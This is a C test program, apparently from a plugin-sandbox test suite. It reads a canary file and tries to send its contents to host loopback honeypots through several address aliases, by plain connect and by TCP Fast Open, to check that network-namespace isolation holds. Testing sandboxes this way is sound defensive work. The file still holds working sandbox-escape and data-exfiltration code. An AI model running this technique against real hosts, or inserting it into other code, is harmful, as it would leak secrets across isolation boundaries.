/* net.loopback.tcp_host — catalog N07/N01 under `net = loopback`. A plugin granted loopback gets its own lo
 * inside its own network namespace; the host's loopback services (docker API on 2375, databases, dev
 * servers, here the TCP honeypots) must stay unreachable. Landlock does not deny TCP in this mode, so the
 * namespace is the only fence. The attack first proves its own loopback works (listens on a nonce-derived
 * port and connects to itself), then connects to the host honeypots on 127.0.0.1:{tcp_port},
 * 127.0.0.2, 0.0.0.0, ::ffff:127.0.0.1 and [::1]:{tcp6_port}, with plain connect and TCP Fast Open, and sends
 * the nonce plus whatever it read of the canary. Args: tcp_port tcp6_port nonce canary_file canary_fd */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static char payload[2048];
static size_t pl;

static void hit(const char *label, int fam, const char *addr, int port) {
    struct sockaddr_storage ss = {0};
    socklen_t len;
    if (fam == AF_INET) {
        struct sockaddr_in *a = (struct sockaddr_in *)&ss;
        a->sin_family = AF_INET, a->sin_port = htons((uint16_t)port);
        inet_pton(AF_INET, addr, &a->sin_addr);
        len = sizeof *a;
    } else {
        struct sockaddr_in6 *a = (struct sockaddr_in6 *)&ss;
        a->sin6_family = AF_INET6, a->sin6_port = htons((uint16_t)port);
        inet_pton(AF_INET6, addr, &a->sin6_addr);
        len = sizeof *a;
    }
    int s = socket(fam, SOCK_STREAM, 0);
    if (connect(s, (struct sockaddr *)&ss, len) == 0)
        printf("%-10s %s port %d: CONNECTED, sent %zd\n", label, addr, port, send(s, payload, pl, MSG_NOSIGNAL));
    else
        printf("%-10s %s port %d: %s\n", label, addr, port, strerror(errno));
    close(s);
    s = socket(fam, SOCK_STREAM, 0);
    long r = sendto(s, payload, pl, 0x20000000 /* MSG_FASTOPEN */ | MSG_NOSIGNAL, (struct sockaddr *)&ss, len);
    printf("%-10s %s port %d (TFO): %s\n", label, addr, port, r >= 0 ? "SENT" : strerror(errno));
    close(s);
}

int main(int argc, char **argv) {
    if (argc < 6) return 0;
    setvbuf(stdout, NULL, _IOLBF, 0);
    int tport = atoi(argv[1]), t6 = atoi(argv[2]);
    const char *nonce = argv[3];
    pl = (size_t)snprintf(payload, 1024, "gauntlet-%s loopback tcp exfil:", nonce);
    int fd = open(argv[4], O_RDONLY);
    ssize_t n = -1;
    if (fd >= 0) { n = read(fd, payload + pl, 512); close(fd); }
    if (n <= 0) n = pread(atoi(argv[5]), payload + pl, 512, 0);
    if (n > 0) pl += (size_t)n;

    /* own loopback: listen and connect to ourselves */
    unsigned h = 0;
    for (const char *p = nonce; *p; p++) h = h * 31 + (unsigned char)*p;
    int own = 20000 + (int)(h % 20000);
    if (own == tport || own == t6) own++;
    int l = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in la = {.sin_family = AF_INET, .sin_port = htons((uint16_t)own), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    int lok = bind(l, (struct sockaddr *)&la, sizeof la) == 0 && listen(l, 4) == 0;
    int c = socket(AF_INET, SOCK_STREAM, 0);
    printf("own loopback listener on %d: %s, self-connect: %s\n", own, lok ? "OK" : strerror(errno),
           lok && connect(c, (struct sockaddr *)&la, sizeof la) == 0 ? "OK" : "failed");
    close(c);
    close(l);

    hit("host-v4", AF_INET, "127.0.0.1", tport);
    hit("alias", AF_INET, "127.0.0.2", tport);
    hit("any", AF_INET, "0.0.0.0", tport);
    hit("mapped", AF_INET6, "::ffff:127.0.0.1", tport);
    hit("host-v6", AF_INET6, "::1", t6);
    return 0;
}
